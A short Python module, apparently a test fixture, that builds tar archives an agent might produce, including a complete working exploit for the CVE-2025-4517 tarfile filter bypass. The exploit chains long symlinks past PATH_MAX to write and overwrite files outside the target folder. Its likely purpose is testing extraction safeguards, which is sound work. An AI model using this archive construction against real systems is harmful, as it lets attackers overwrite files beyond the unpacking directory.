"""Archives as an agent may make them."""

import io
import tarfile
from collections.abc import Iterable

Entry = tuple[str, bytes, bytes | str]  # name; a type of tarfile; a file's content, or where a link leads


def packed(entries: Iterable[Entry]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, kind, value in entries:
            member = tarfile.TarInfo(name)
            member.type, member.mode = kind, 0o644
            if isinstance(value, str):
                member.linkname = value
            else:
                member.size = len(value)
            tar.addfile(member, io.BytesIO(value) if isinstance(value, bytes) else None)
    return buffer.getvalue()


def leading_out(folder: str) -> bytes:
    """The attack of CVE-2025-4517 on `folder`, seen from where it is unpacked: writes `new`, overwrites `old`.

    A path through links that is longer than PATH_MAX when they are resolved is checked as if it had none after that.
    """
    long, entries, path = "d" * 247, list[Entry](), ""
    for short in "abcdefghijklmnop":
        entries += [(f"{path}{long}", tarfile.DIRTYPE, b""), (f"{path}{short}", tarfile.SYMTYPE, long)]
        path += f"{long}/"
    up = "/".join("abcdefghijklmnop") + "/" + "l" * 254
    return packed(
        [
            *entries,
            (up, tarfile.SYMTYPE, "../" * 16),
            ("escape", tarfile.SYMTYPE, f"{up}/{folder}"),
            ("escape/new", tarfile.REGTYPE, b"written"),
            ("again", tarfile.LNKTYPE, "escape/old"),
            ("again", tarfile.REGTYPE, b"overwritten"),
            ("harmless", tarfile.REGTYPE, b"kept"),
        ]
    )
